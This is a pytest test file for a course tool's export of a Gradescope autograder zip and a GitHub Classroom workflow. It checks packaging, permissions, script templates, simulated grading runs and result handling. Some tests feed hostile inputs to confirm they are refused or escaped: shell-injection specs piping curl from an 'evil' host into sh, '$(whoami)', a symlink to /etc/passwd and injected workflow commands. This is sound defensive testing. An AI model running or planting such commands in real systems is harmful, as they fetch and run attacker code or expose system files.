"""`kata export`: the Gradescope autograder zip and the GitHub Classroom workflow.

The Gradescope zip is tested the way Gradescope uses it: unpacked into a temporary tree laid
out like /autograder (source/, submission/, results/), and its own run_autograder run against
that tree with TORCHKATA_AUTOGRADER_ROOT. setup.sh is not run (it needs the network); instead
TORCHKATA_PYTHON points run_autograder at the interpreter running these tests, and the bundled
tree, not this checkout, is what grades (run_autograder puts it first on PYTHONPATH, and a test
below proves it by editing the bundled manifest).
"""
from __future__ import annotations

import base64
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest

from checker import ROOT, classroom, emitters, export, manifest
from checker.results import GradeReport, KataResult, Status
from checker.results import TestResult as Result

GATHER = "04_indexing/gather"
LAYERNORM = "08_layers/layernorm"
REDUCTIONS = "03_reductions/reductions"
GRADED_KATAS = (GATHER, LAYERNORM, REDUCTIONS)
BROKEN_SOURCE = "import torch\n\ndef layer_norm(x, gamma, beta, eps=1e-5:\n    return x\n"
GRADESCOPE_STATUSES = {"passed", "failed"}


def kata_args(*katas: str) -> str:
    return " ".join(f"--kata {k}" for k in katas)


# ---------------------------------------------------------------------------------------------
# The zip
# ---------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def autograder_zip(tmp_path_factory) -> Path:
    return export.export_gradescope(tmp_path_factory.mktemp("export") / "autograder.zip")


def test_zip_holds_the_scripts_and_the_grading_tree_only(autograder_zip):
    names = zipfile.ZipFile(autograder_zip).namelist()
    assert names == sorted(names)
    assert {"setup.sh", "run_autograder"} <= set(names)
    assert all(n in ("setup.sh", "run_autograder") or n.startswith("torchkata/") for n in names), names
    for required in ("pyproject.toml", "katas.toml", "checker/__init__.py", "checker/templates/stub.py.j2"):
        assert f"torchkata/{required}" in names
    for kata in manifest.load():
        assert f"torchkata/solutions/{kata.relpath}" in names
        assert f"torchkata/checker/suites/{kata.relpath}" in names
    for name in names:
        parts = name.split("/")
        assert not {"exercises", "notebooks", "tests", "__pycache__", ".git", ".torchkata"} & set(parts), name
        assert not name.endswith((".pyc", ".pyo")) and "egg-info" not in name, name
    # Reference code sits only in the grading tree, which Gradescope never shows to students.
    reference_names = {p.name for p in (ROOT / "solutions").rglob("*.py")}
    for name in names:
        if Path(name).name in reference_names and "/suites/" not in name:
            assert name.startswith("torchkata/solutions/"), name


def test_zip_is_reproducible_with_executable_scripts(autograder_zip, tmp_path):
    again = export.export_gradescope(tmp_path / "again.zip")
    assert again.read_bytes() == autograder_zip.read_bytes()
    for info in zipfile.ZipFile(autograder_zip).infolist():
        assert info.date_time == export.ZIP_EPOCH
        mode = info.external_attr >> 16
        assert stat.S_ISREG(mode)
        expected = 0o755 if info.filename in ("setup.sh", "run_autograder") else 0o644
        assert stat.S_IMODE(mode) == expected, info.filename


def test_zip_copies_the_tree_byte_for_byte(autograder_zip):
    with zipfile.ZipFile(autograder_zip) as zf:
        for name in zf.namelist():
            if name.startswith("torchkata/") and name != "torchkata/pyproject.toml":
                assert zf.read(name) == (ROOT / name.removeprefix("torchkata/")).read_bytes(), name


def test_the_bundled_pyproject_installs_the_checker_with_torchkatas_requirements(autograder_zip):
    import tomllib
    bundled = tomllib.loads(zipfile.ZipFile(autograder_zip).read("torchkata/pyproject.toml").decode())
    ours = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    # (Installed metadata writes markers with double quotes.)
    same_quotes = [r.replace("'", '"') for r in ours["project"]["dependencies"]]
    assert bundled["project"]["dependencies"] == same_quotes
    assert bundled["project"]["name"] == "torchkata" and bundled["project"]["scripts"] == ours["project"]["scripts"]
    assert set(bundled["tool"]["setuptools"]["packages"]) == {"checker", "checker.sandbox"}


def test_the_zip_is_for_its_owner_only_and_never_lands_in_the_graded_tree(autograder_zip, tmp_path, monkeypatch):
    assert stat.S_IMODE(autograder_zip.stat().st_mode) == 0o600
    for inside in (ROOT / "autograder.zip", ROOT / "dist" / "autograder.zip"):
        with pytest.raises(export.ExportError, match="every reference solution"):
            export.export_gradescope(inside)
        assert not inside.exists()
    # With no path given, the zip goes under the home folder, outside every course.
    from checker.cli import build_parser
    monkeypatch.setenv("HOME", str(tmp_path))
    assert export.export_command(build_parser().parse_args(["export", "gradescope"])) == 0
    assert export.default_gradescope_zip() == tmp_path / "torchkata-exports" / "gradescope-autograder.zip"
    assert export.default_gradescope_zip().read_bytes() == autograder_zip.read_bytes()


def test_an_instructors_course_ships_with_its_own_helpers_and_the_installed_checker(tmp_path):
    """The course comes from wherever it lives; the checker package from the running install."""
    course = tmp_path / "mycourse"
    kata = manifest.get(GATHER)
    (course / "solutions" / kata.chapter).mkdir(parents=True)
    (course / "checker" / "suites" / kata.chapter).mkdir(parents=True)
    (course / "katas.toml").write_text(f'[chapters]\n"{kata.chapter}" = "Indexing"\n'
                                       f'[[kata]]\nid = "{kata.id}"\ntitle = "{kata.title}"\n')
    shutil.copy(kata.solution_path, course / "solutions" / kata.relpath)
    shutil.copy(kata.suite_path, course / "checker" / "suites" / kata.relpath)
    (course / "checker" / "suites" / "_autograd_flags.py").write_text("MINE = True\n")
    dest = export.export_gradescope(tmp_path / "out" / "autograder.zip", root=course)
    with zipfile.ZipFile(dest) as zf:
        names = set(zf.namelist())
        assert zf.read("torchkata/katas.toml") == (course / "katas.toml").read_bytes()
        assert zf.read("torchkata/checker/suites/_autograd_flags.py") == b"MINE = True\n"
    assert f"torchkata/solutions/{kata.relpath}" in names and f"torchkata/checker/suites/{kata.relpath}" in names
    assert not any("/suites/01_tensors/" in n or "/solutions/01_tensors/" in n for n in names)
    assert {"torchkata/checker/__init__.py", "torchkata/checker/sandbox/server.py"} <= names
    assert not any("packaged_course" in n for n in names)


def test_setup_installs_cpu_torch_before_an_editable_torchkata(autograder_zip):
    setup = zipfile.ZipFile(autograder_zip).read("setup.sh").decode()
    assert setup.startswith("#!/usr/bin/env bash\n") and "\r" not in setup
    assert "python3-venv" in setup and "python3-pip" in setup
    torch_install = setup.index('"$TORCH_SPEC"')
    assert export.TORCH_CPU_INDEX in setup and "--index-url" in setup
    assert torch_install < setup.index('-e "$SOURCE"')
    assert 'SOURCE="$AUTOGRADER/source/torchkata"' in setup
    for knob in ("TORCHKATA_TORCH_SPEC", "TORCHKATA_TORCH_INDEX", "TORCHKATA_PIP_ARGS", "TORCHKATA_AUTOGRADER_ROOT"):
        assert knob in setup
    subprocess.run(["bash", "-n"], input=setup, text=True, check=True)
    run = zipfile.ZipFile(autograder_zip).read("run_autograder").decode()
    assert run.startswith("#!/usr/bin/env bash\n") and "\r" not in run
    subprocess.run(["bash", "-n"], input=run, text=True, check=True)


def test_setup_refuses_torch_specs_a_shell_would_act_on():
    assert "torch==2.5.1" in export.render_setup_sh(torch_spec="torch==2.5.1")
    with pytest.raises(export.ExportError):
        export.render_setup_sh(torch_spec="torch; curl evil.example | sh")


def test_scripts_and_workflow_come_from_packaged_template_files():
    """setup.sh, run_autograder, the workflow and its grading step are jinja2 templates under
    checker/templates/, and pyproject's package-data ships every file there."""
    import fnmatch
    import tomllib
    templates = {p.name for p in export.TEMPLATES.iterdir() if p.is_file()}
    assert {"gradescope_setup.sh.j2", "gradescope_run_autograder.sh.j2", "classroom.yml.j2",
            "classroom_grade.sh.j2"} <= templates
    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    globs = pyproject["tool"]["setuptools"]["package-data"]["checker"]
    for name in templates:
        assert any(fnmatch.fnmatch(f"templates/{name}", g) for g in globs), (name, globs)
    rendered = [export.render_setup_sh(), export.render_run_autograder(max_score=3),
                export.render_classroom_workflow(SPEC), export.classroom_grade_script()]
    for text in rendered:
        assert not any(mark in text for mark in ("<@", "@>", "<%", "%>")), text


def test_a_template_value_left_out_is_an_error():
    import jinja2
    with pytest.raises(jinja2.UndefinedError):
        export.render_template("gradescope_run_autograder.sh.j2", source_dir="x")


def _copy_tree(root: Path) -> Path:
    for name, path in export.source_files(ROOT):
        dest = root / name
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(path.read_bytes())
    return root


def test_strict_export_refuses_a_tree_that_would_fail_every_submission(tmp_path):
    tree = _copy_tree(tmp_path / "tree")
    assert export.problems(tree) == []
    (tree / "checker" / "suites" / f"{GATHER}.py").unlink()
    (tree / "solutions" / f"{LAYERNORM}.py").write_text("def layer_norm(:\n")
    found = export.problems(tree)
    assert any(GATHER in p and "suite" in p for p in found), found
    assert any(f"solutions/{LAYERNORM}.py" in p and "parse" in p for p in found), found
    with pytest.raises(export.ExportError, match="fail every submission"):
        export.export_gradescope(tmp_path / "out.zip", root=tree)
    assert not (tmp_path / "out.zip").exists()
    export.export_gradescope(tmp_path / "out.zip", root=tree, strict=False)
    assert "torchkata/checker/suites/04_indexing/gather.py" not in zipfile.ZipFile(tmp_path / "out.zip").namelist()


def test_export_command_checks_the_name_and_writes_the_zip(tmp_path, capsys):
    from checker.cli import build_parser
    args = build_parser().parse_args(["export", "gradescope", str(tmp_path / "autograder.tar")])
    assert export.export_command(args) == 1
    assert ".zip" in capsys.readouterr().err
    args = build_parser().parse_args(["export", "gradescope", str(tmp_path / "autograder.zip")])
    assert export.export_command(args) == 0
    assert zipfile.is_zipfile(tmp_path / "autograder.zip")


# ---------------------------------------------------------------------------------------------
# A simulated /autograder
# ---------------------------------------------------------------------------------------------

def make_autograder(zip_path: Path, base: Path) -> Path:
    root = base / "autograder"
    for sub in ("source", "submission", "results"):
        (root / sub).mkdir(parents=True)
    with zipfile.ZipFile(zip_path) as zf:
        zf.extractall(root / "source")
        for info in zf.infolist():       # extractall drops permission bits; Gradescope keeps them
            os.chmod(root / "source" / info.filename, stat.S_IMODE(info.external_attr >> 16))
    return root


def sample_submission(root: Path) -> None:
    """A correct gather, a LayerNorm file with a syntax error, reductions missing, a
    conftest.py that must be refused, and files that used to give the student a traceback and
    a zero for everything: a FIFO, a link out, JSON nested past the recursion limit, a name as
    long as a name can be, and a name that is not UTF-8."""
    sub = root / "submission"
    (sub / "04_indexing").mkdir()
    shutil.copy(ROOT / "solutions" / f"{GATHER}.py", sub / f"{GATHER}.py")
    (sub / "08_layers").mkdir()
    (sub / f"{LAYERNORM}.py").write_text(BROKEN_SOURCE)
    (sub / "conftest.py").write_text("import os\n")
    os.mkfifo(sub / "pipe.py")                                  # opening it would block
    os.symlink("/etc/passwd", sub / "passwd.py")
    (sub / "deep.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    (sub / ("n" * 240 + ".ipynb")).write_text("{}")
    with open(os.fsencode(sub) + b"/caf\xe9\n.py", "wb") as fh:
        fh.write(b"x = 1\n")


HOSTILE_REJECTIONS = ("pipe.py: not a regular file", "passwd.py: symbolic links are not accepted",
                      "deep.ipynb: not a readable notebook (its JSON is nested too deeply)",
                      "caf\\xe9\\x0a.py: not a kata file", "n" * 100)


def run_autograder(root: Path, **env) -> subprocess.CompletedProcess:
    full_env = {**os.environ, "TORCHKATA_AUTOGRADER_ROOT": str(root), "TORCHKATA_PYTHON": sys.executable,
                "TORCHKATA_SEED": "7"}
    for key in ("TORCHKATA_GRADE_ARGS", "TORCHKATA_HIDDEN_AFTER_DUE", "PYTHONPATH"):
        full_env.pop(key, None)
    full_env.update(env)
    # Gradescope runs a copy at /autograder/run_autograder, so the script must not rely on
    # where it sits; the copy is run here the same way.
    shutil.copy2(root / "source" / "run_autograder", root / "run_autograder")
    return subprocess.run([str(root / "run_autograder")], env=full_env, cwd=root, capture_output=True,
                          text=True, errors="replace", timeout=300)


def load_gradescope(root: Path) -> dict:
    """results.json, checked against Gradescope's spec for the keys torchkata writes."""
    data = json.loads((root / "results" / "results.json").read_text(encoding="utf-8"))
    assert isinstance(data["score"], (int, float)) and isinstance(data["output"], str)
    assert isinstance(data["tests"], list) and data["tests"]
    for test in data["tests"]:
        assert isinstance(test["name"], str) and isinstance(test["output"], str)
        assert test["status"] in GRADESCOPE_STATUSES
        assert test["visibility"] in emitters.GRADESCOPE_VISIBILITIES
        if "score" in test:
            assert 0 <= test["score"] <= test["max_score"]
    assert data["score"] == pytest.approx(sum(t.get("score", 0) for t in data["tests"]))
    return data


@pytest.fixture(scope="module")
def traversable_dir():
    """A scratch directory every user can enter, as /autograder is. pytest's own tmp_path sits
    under a 0700 directory, which would hide the grading tree from the unprivileged uid that
    the sandbox runs learner code as."""
    path = Path(tempfile.mkdtemp(prefix="torchkata-autograder-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def graded(autograder_zip, traversable_dir):
    """One real grading run of the sample submission, with the bundled manifest's gather title
    changed so the results show which tree graded."""
    root = make_autograder(autograder_zip, traversable_dir)
    katas_toml = root / "source" / "torchkata" / "katas.toml"
    title = manifest.get(GATHER).title
    text = katas_toml.read_text(encoding="utf-8")
    assert text.count(f'title = "{title}"') == 1
    katas_toml.write_text(text.replace(f'title = "{title}"', 'title = "bundled tree title"'), encoding="utf-8")
    sample_submission(root)
    (root / "results").chmod(0o777)          # as if the platform had left it open to everyone
    proc = run_autograder(root, TORCHKATA_GRADE_ARGS=kata_args(*GRADED_KATAS))
    return root, proc


def test_run_autograder_grades_the_submission(graded):
    root, proc = graded
    assert proc.returncode == 0, proc.stdout + proc.stderr
    data = load_gradescope(root)
    scored = {t["name"]: t for t in data["tests"] if "score" in t}
    expected_names = {f"{k}::{n}" for k in GRADED_KATAS for n in manifest.get(k).graded}
    assert set(scored) == expected_names
    for name, test in scored.items():
        if name.startswith(GATHER):
            assert test["status"] == "passed" and test["score"] == test["max_score"] == 1, test
        else:
            assert test["status"] == "failed" and test["score"] == 0, test
    broken = scored[f"{LAYERNORM}::layer_norm"]["output"]
    assert "import-error" in broken and "line 3" in broken
    missing = scored[f"{REDUCTIONS}::column_sums"]["output"]
    assert "not found" in missing
    assert data["score"] == len(manifest.get(GATHER).graded)
    assert "conftest.py" in data["output"]                    # refused, and the learner is told
    for words in HOSTILE_REJECTIONS:                         # so is every malformed file
        assert words in data["output"], data["output"]
    assert all(t["visibility"] == "visible" for t in data["tests"])
    # Students read every `output`: no seed, versions or isolation there (those are in
    # extra_data), and no `kata` command, which they do not have on Gradescope.
    for text in [data["output"]] + [t["output"] for t in data["tests"]]:
        for internal in ("seed", "isolation", "torchkata", "0.1.0", "`kata ", "kata hint"):
            assert internal not in text, (internal, text)
    assert data["extra_data"]["seed"] == 7
    assert data["extra_data"]["isolation"]["level"] in ("namespaces+uid", "uid", "rlimits-only")


def test_the_bundled_tree_is_what_grades(graded):
    root, _ = graded
    summaries = [t["name"] for t in load_gradescope(root)["tests"] if "score" not in t]
    assert f"{GATHER} · bundled tree title" in summaries


def test_run_autograder_hides_references_from_other_users(graded):
    root, _ = graded
    for path in (root / "source" / "torchkata" / "solutions", root / "source" / "torchkata" / "checker" / "suites"):
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
    assert stat.S_IMODE((root / "results").stat().st_mode) & 0o022 == 0


# ---------------------------------------------------------------------------------------------
# run_autograder's plumbing and its fallback, with stand-ins for the grader's Python
# ---------------------------------------------------------------------------------------------

RECORDING_PYTHON = """#!/usr/bin/env bash
# Stands in for Python: records its arguments and writes a minimal valid results file.
printf '%s\\n' "$@" > "$(dirname "$0")/argv.txt"
out=""
while [ $# -gt 0 ]; do
    if [ "$1" = --out ]; then out="$2"; fi
    shift
done
printf '{"score": 1, "output": "stand-in", "tests": [{"name": "t", "status": "passed", ' > "$out"
printf '"score": 1, "max_score": 1, "output": "", "visibility": "visible"}]}' >> "$out"
"""

GARBAGE_PYTHON = """#!/usr/bin/env bash
# Stands in for a grader that writes a broken results file and hostile text on its way out.
while [ $# -gt 0 ]; do
    if [ "$1" = --out ]; then printf '{"score": 3, "tests": [' > "$2"; fi
    shift
done
printf 'Traceback: "quoted" back\\\\slash\\ttab \\001\\033[31m \\377\\376 bytes\\n' >&2
exit 3
"""

SLOW_PYTHON = """#!/usr/bin/env bash
sleep 60
"""


def stand_in(base: Path, name: str, script: str) -> Path:
    path = base / name
    path.write_text(script)
    path.chmod(0o755)
    return path


@pytest.fixture
def simulated(autograder_zip, tmp_path) -> Path:
    root = make_autograder(autograder_zip, tmp_path)
    sample_submission(root)
    return root


def test_run_autograder_passes_options_through(simulated, tmp_path):
    python = stand_in(tmp_path, "python", RECORDING_PYTHON)
    proc = run_autograder(simulated, TORCHKATA_PYTHON=str(python), TORCHKATA_HIDDEN_AFTER_DUE="1",
                          TORCHKATA_GRADE_ARGS="--timeout 20 --kata *")
    assert proc.returncode == 0, proc.stderr
    argv = (tmp_path / "argv.txt").read_text().splitlines()
    assert argv[:3] == ["-m", "checker", "grade"]
    assert argv[3] == str(simulated / "submission")
    assert argv[argv.index("--format") + 1] == "gradescope"
    assert argv[argv.index("--out") + 1] == str(simulated / "results" / "results.json")
    assert "--hidden-after-due" in argv
    assert argv[-4:] == ["--timeout", "20", "--kata", "*"]        # split into words, never globbed
    assert load_gradescope(simulated)["output"] == "stand-in"


def test_baked_grade_arguments_survive_quoting(autograder_zip, tmp_path):
    zip_path = export.export_gradescope(tmp_path / "baked.zip", extra_args=["--hidden-after-due", "--timeout", "2 0"])
    root = make_autograder(zip_path, tmp_path / "tree")
    python = stand_in(tmp_path, "python", RECORDING_PYTHON)
    assert run_autograder(root, TORCHKATA_PYTHON=str(python)).returncode == 0
    argv = (tmp_path / "argv.txt").read_text().splitlines()
    assert argv[-3:] == ["--hidden-after-due", "--timeout", "2 0"]


def fallback(root: Path) -> dict:
    data = load_gradescope(root)
    assert data["score"] == 0
    [test] = data["tests"]
    assert test["status"] == "failed" and test["score"] == 0
    assert test["max_score"] == export.total_points(ROOT) > 0
    return data


def test_a_grader_that_cannot_run_still_leaves_results(simulated):
    stale = simulated / "results" / "results.json"
    stale.write_text('{"score": 100, "tests": []}')          # must not be reported as this run's
    proc = run_autograder(simulated, TORCHKATA_PYTHON=shutil.which("false"))
    assert proc.returncode == 0
    data = fallback(simulated)
    assert "exit status 1" in data["output"] and "course staff" in data["output"]


def test_a_missing_python_points_at_setup(simulated):
    run_autograder(simulated, TORCHKATA_PYTHON=str(simulated / "no-such-venv" / "bin" / "python"))
    assert "setup.sh" in fallback(simulated)["output"]


def test_an_unreadable_results_file_is_replaced(simulated, tmp_path):
    python = stand_in(tmp_path, "python", GARBAGE_PYTHON)
    run_autograder(simulated, TORCHKATA_PYTHON=str(python))
    data = fallback(simulated)
    assert "not valid Gradescope JSON" in data["output"] and "exit status 3" in data["output"]
    # The log's hostile bytes are dropped or escaped, never allowed to break the JSON.
    assert 'Traceback: "quoted" back\\slash\ttab' in data["output"]


def test_a_grader_past_the_time_limit_is_stopped(simulated, tmp_path):
    python = stand_in(tmp_path, "python", SLOW_PYTHON)
    proc = run_autograder(simulated, TORCHKATA_PYTHON=str(python), TORCHKATA_TIME_LIMIT="1")
    assert proc.returncode == 0
    assert "longer than 1 s" in fallback(simulated)["output"]


def test_a_crash_inside_the_real_grader_leaves_results(simulated):
    # An option `kata grade` refuses makes it exit 2 before it writes anything.
    run_autograder(simulated, TORCHKATA_GRADE_ARGS="--device tpu")
    output = fallback(simulated)["output"]
    assert "exit status 2" in output and "invalid choice: 'tpu'" in output     # the log tail


# ---------------------------------------------------------------------------------------------
# GitHub Classroom
# ---------------------------------------------------------------------------------------------

SPEC = "git+https://example.org/course/torchkata.git@v1#egg=torchkata"


def test_workflow_has_what_classroom_and_its_reporter_need(tmp_path):
    written = export.export_github_classroom(tmp_path, install_spec=SPEC)
    workflow = tmp_path / ".github" / "workflows" / "classroom.yml"
    assert written[0] == workflow
    text = workflow.read_text(encoding="utf-8")
    lines = [line.rstrip() for line in text.splitlines()]
    assert "\t" not in text
    # Classroom finds the scores by these names.
    assert "name: Autograding Tests" in lines and "  run-autograding-tests:" in lines
    on = lines.index('"on":')
    assert lines[on + 1:on + 4] == ["  - push", "  - workflow_dispatch", "  - repository_dispatch"]
    # Least privilege: the token only checks out the repository, and is not left in .git/config
    # where code running during grading could read it.
    perms = lines.index("permissions:")
    assert lines[perms + 1:perms + 3] == ["  contents: read", "jobs:"]
    assert not any(l.lstrip().startswith(("checks:", "actions:")) for l in lines)
    assert "    if: github.actor != 'github-classroom[bot]'" in lines
    checkout = lines.index("        uses: actions/checkout@v7")
    assert lines[checkout + 1] == "        with:"
    assert lines[checkout + 2].startswith("          persist-credentials: false")
    # Current majors: checkout and setup-python run on Node 24, not the deprecated Node 20.
    assert "        uses: actions/setup-python@v7" in lines
    assert all(f"uses: {action}" in text for action in export.CLASSROOM_ACTIONS.values())
    assert f'          python-version: "{export.CLASSROOM_PYTHON}"' in lines and export.CLASSROOM_PYTHON == "3.11"
    torch_line = lines.index(f"          python -m pip install torch --index-url {export.TORCH_CPU_INDEX}")
    install_line = next(i for i, l in enumerate(lines) if '-e "$TORCHKATA_INSTALL"' in l)
    assert torch_line < install_line
    assert f'      TORCHKATA_INSTALL: "{SPEC}"' in lines
    # The grading step's id names the runner; the reporter reads <ID upper-cased>_RESULTS.
    step = lines.index(f"        id: {export.CLASSROOM_RUNNER_ID}")
    assert lines[step + 1] == "        run: |"
    expected_script = export.classroom_grade_script().splitlines()
    script = [line.removeprefix("          ") for line in lines[step + 2:step + 2 + len(expected_script)]]
    assert script == expected_script
    assert any("kata grade" in l and "--format exercism" in l for l in script)
    reporter = lines.index("        uses: classroom-resources/autograding-grading-reporter@v1")
    results_env = f"{export.CLASSROOM_RUNNER_ID.upper()}_RESULTS"
    assert lines[reporter + 1:reporter + 5] == [
        "        env:",
        f'          {results_env}: "${{{{ steps.{export.CLASSROOM_RUNNER_ID}.outputs.result }}}}"',
        "        with:",
        f"          runners: {export.CLASSROOM_RUNNER_ID}"]
    assert results_env == "TORCHKATA_RESULTS"


def test_template_gets_fresh_stubs_but_keeps_its_own_files(tmp_path):
    mine = tmp_path / "exercises" / f"{GATHER}.py"
    mine.parent.mkdir(parents=True)
    mine.write_text("# the instructor's own version\n")
    written = export.export_github_classroom(tmp_path, install_spec=SPEC)
    assert mine.read_text() == "# the instructor's own version\n" and mine not in written
    layernorm = tmp_path / "exercises" / f"{LAYERNORM}.py"
    assert layernorm in written
    stub = layernorm.read_text()
    assert "NotImplementedError" in stub and "# BEGIN SOLUTION" not in stub


def test_install_spec_comes_from_the_environment_or_is_refused(tmp_path, monkeypatch):
    monkeypatch.delenv(export.INSTALL_SPEC_ENV, raising=False)
    with pytest.raises(export.ExportError, match=export.INSTALL_SPEC_ENV):
        export.export_github_classroom(tmp_path, stubs=False)
    assert not (tmp_path / ".github").exists()
    monkeypatch.setenv(export.INSTALL_SPEC_ENV, "./vendor/torchkata")
    export.export_github_classroom(tmp_path, stubs=False)
    assert 'TORCHKATA_INSTALL: "./vendor/torchkata"' in (tmp_path / export.CLASSROOM_WORKFLOW).read_text()
    for hostile in ('x" && curl evil | sh', "x\n  injected: true", "$(whoami)"):
        with pytest.raises(export.ExportError):
            export.export_github_classroom(tmp_path, install_spec=hostile, stubs=False)


def sample_report() -> GradeReport:
    def t(kata, name, status, message=""):
        return Result(kata, name, status, message, score=1.0 if status is Status.PASSED else 0.0)
    return GradeReport(katas=[
        KataResult(GATHER, "gather", tests=[t(GATHER, "pick_per_row", Status.PASSED),
                                            t(GATHER, "gather_2d", Status.FAILED, "wrong values at [0, 1]")]),
        KataResult(LAYERNORM, "layernorm", tests=[t(LAYERNORM, "layer_norm", Status.IMPORT_ERROR, "SyntaxError"),
                                                  t(LAYERNORM, "LayerNorm", Status.TIMEOUT, "stopped after 10 s")]),
    ], metadata={"captured_output": {f"{GATHER}::gather_2d": "debug print"}})


def test_exercism_results_become_the_reporters_shape():
    report = sample_report()
    result = classroom.from_exercism(emitters.to_exercism(report))
    assert result["version"] == 1 and result["status"] == "fail"
    assert result["max_score"] == report.max_score == 4
    assert sum(t["score"] for t in result["tests"]) == report.score == 1
    by_name = {t["name"]: t for t in result["tests"]}
    assert set(by_name) == {t.test_id for t in report.tests}
    expected_status = {"pick_per_row": "pass", "gather_2d": "fail", "layer_norm": "error", "LayerNorm": "error"}
    for test in report.tests:
        entry = by_name[test.test_id]
        assert set(entry) == {"name", "status", "score", "message", "test_code", "filename", "line_no"}
        assert entry["status"] == expected_status[test.name]
        assert entry["filename"] == f"exercises/{test.kata_id}.py"
        assert entry["test_code"] == f"kata check {test.kata_id} --dir exercises"
        assert isinstance(entry["line_no"], int)
        if test.status.passed:
            assert entry["message"] == ""
        else:
            assert test.message in entry["message"]
    assert "debug print" in by_name[f"{GATHER}::gather_2d"]["message"]


def test_a_report_with_nothing_graded_is_an_error():
    report = GradeReport(katas=[KataResult(LAYERNORM, "layernorm", tests=[
        Result(LAYERNORM, "layer_norm", Status.IMPORT_ERROR, "missing")])])
    assert classroom.from_exercism(emitters.to_exercism(report))["status"] == "error"
    solved = GradeReport(katas=[KataResult(GATHER, "gather", tests=[
        Result(GATHER, "pick_per_row", Status.PASSED, score=1.0)])])
    assert classroom.from_exercism(emitters.to_exercism(solved))["status"] == "pass"


def test_results_of_the_wrong_shape_are_refused():
    good = emitters.to_exercism(sample_report())
    for broken in ([], {"tests": []}, {**good, "status": "ok"}, {**good, "max_score": "4"},
                   {**good, "tests": [{**good["tests"][0], "score": None}]},
                   {**good, "tests": [{**good["tests"][0], "status": "passed"}]}):
        with pytest.raises(classroom.ResultsError):
            classroom.from_exercism(broken)


def read_output(path: Path) -> dict:
    [line] = path.read_text().splitlines()
    key, _, value = line.partition("=")
    assert key == "result"
    return json.loads(base64.b64decode(value, validate=True))


def test_main_sets_the_step_output(tmp_path):
    results = tmp_path / "results.json"
    results.write_text(emitters.render(sample_report(), "exercism"))
    output = tmp_path / "github_output"
    assert classroom.main([str(results), "--grade-status", "1", "--github-output", str(output)]) == 0
    assert read_output(output) == classroom.from_exercism(json.loads(results.read_text()))


@pytest.mark.parametrize("content", [None, "{not json", '{"version": 3, "status": "pass"}'])
def test_main_reports_an_error_when_grading_left_nothing_usable(tmp_path, content):
    results = tmp_path / "results.json"
    if content is not None:
        results.write_text(content)
    output = tmp_path / "github_output"
    classroom.main([str(results), "--grade-status", "2", "--github-output", str(output)])
    result = read_output(output)
    assert result["status"] == "error" and result["version"] == 1
    assert result["max_score"] == export.total_points(ROOT) > 0
    [test] = result["tests"]
    assert test["status"] == "error" and test["score"] == 0 and test["message"]
    if content is None:
        assert "exit status 2" in test["message"]


def test_the_workflow_grading_step_feeds_the_reporter_and_tells_the_student_why(tmp_path):
    """The workflow's own grading script, run in a directory laid out like a student's repo."""
    repo = tmp_path / "repo"
    (repo / "exercises" / "04_indexing").mkdir(parents=True)
    shutil.copy(ROOT / "solutions" / f"{GATHER}.py", repo / "exercises" / f"{GATHER}.py")
    (repo / "exercises" / "08_layers").mkdir()
    (repo / "exercises" / f"{LAYERNORM}.py").write_text(BROKEN_SOURCE)
    output, summary = tmp_path / "github_output", tmp_path / "step_summary"
    output.write_text("")
    env = {**os.environ, "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary),
           "RUNNER_TEMP": str(tmp_path / "runner"), "TORCHKATA_EXERCISES": "exercises", "TORCHKATA_SEED": "7",
           "TORCHKATA_INSTALL": SPEC,
           # The sandbox is exercised by the Gradescope run above; this test is about the hand-off.
           "TORCHKATA_GRADE_ARGS": f"{kata_args(GATHER, LAYERNORM)} --isolation none",
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           # `kata` is the venv's entry point; this checkout, not wherever the install points, grades.
           "PYTHONPATH": str(ROOT)}
    proc = subprocess.run(["bash", "-e", "-o", "pipefail", "-x", "-c", export.classroom_grade_script()], cwd=repo,
                          env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # Exercism's interface: `kata grade` exits 0 although tests failed, so the hand-off does not
    # mistake a failing grade for a broken grader.
    assert "--grade-status 0" in proc.stderr
    result = read_output(output)
    assert result["status"] == "fail"
    assert result["max_score"] == len(manifest.get(GATHER).graded) + len(manifest.get(LAYERNORM).graded)
    for test in result["tests"]:
        if test["name"].startswith(GATHER):
            assert test["status"] == "pass" and test["score"] == 1, test
        else:
            assert test["status"] == "error" and test["score"] == 0 and "line 3" in test["message"], test
    # The job log and the run's summary page both say why each test failed.
    failing = [t for t in result["tests"] if t["status"] != "pass"]
    markdown = summary.read_text(encoding="utf-8")
    for test in failing:
        assert f"::error file=exercises/{LAYERNORM}.py,title={test['name'].replace(':', '%3A')} error::" in proc.stdout
        assert f"✗ {test['name']}: error" in proc.stdout
        assert f"<code>{test['name']}</code>: error" in markdown
    assert "line 3" in proc.stdout and "line 3" in markdown
    assert f"python -m pip install -e {SPEC}" in markdown

    # The command suggested to the student re-runs the kata on the student's own files: it finds
    # their syntax error, where torchkata's own exercises/ would only say "not implemented".
    assert failing[0]["test_code"] == f"kata check {LAYERNORM} --dir exercises"
    check = subprocess.run(["bash", "-c", failing[0]["test_code"]], cwd=repo, env=env, capture_output=True,
                           text=True, timeout=300)
    assert check.returncode == 1 and "line 3" in check.stdout, check.stdout + check.stderr


def reporter_result(message: str, name: str = f"{GATHER}::gather_2d") -> dict:
    report = GradeReport(katas=[KataResult(GATHER, "gather", tests=[
        Result(GATHER, "pick_per_row", Status.PASSED, score=1.0),
        Result(GATHER, name.split("::")[1], Status.FAILED, message)])])
    return classroom.from_exercism(emitters.to_exercism(report))


def test_the_job_log_never_runs_workflow_commands_from_learner_text():
    hostile = "wrong values at [0, 1]\n::add-mask::secret\n::error::fake\n%0A 100% sure, a:b"
    log = classroom.job_log(reporter_result(hostile), token="t0ken")
    lines = log.splitlines()
    assert lines[0] == "torchkata: 1 of 2 points · status fail"
    # The annotation carries the whole message, escaped so it stays one command.
